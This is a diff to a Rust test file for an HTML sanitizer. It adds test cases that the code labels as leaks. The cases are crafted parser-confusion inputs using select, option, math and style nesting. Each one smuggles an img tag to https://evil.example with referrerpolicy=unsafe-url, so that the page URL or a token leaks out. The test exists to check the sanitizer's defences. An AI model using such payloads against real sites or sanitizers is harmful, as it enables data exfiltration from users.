@@ -674,6 +674,10 @@ fn hard_cases_match_the_oracle() {
             "<a href=x&#0&#53;>x</a>"),
         // Found by this test after issue 13's rules were encoded: each sent the token (or the
         // page's URL) where it must not go, so no known limit may excuse it.
+        ("LEAK: <option> in a select closes the <li> before it, so </li> leaves the math open",
+            "<select><li><option><math></li><style><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
+        ("LEAK: <hr> and <optgroup> in a select close a <dd>, a <li> before them",
+            "<select><dd><optgroup><math></dd><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style></math></optgroup><li><hr><svg></li><style><img src=https://evil.example/j referrerpolicy=unsafe-url>"),
         ("LEAK: a frameset after <body> is dropped by the parser, not by the rewriter",
             "<body><frameset><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
         ("LEAK: a frameset after the text \"<\" is dropped by the parser, not by the rewriter",
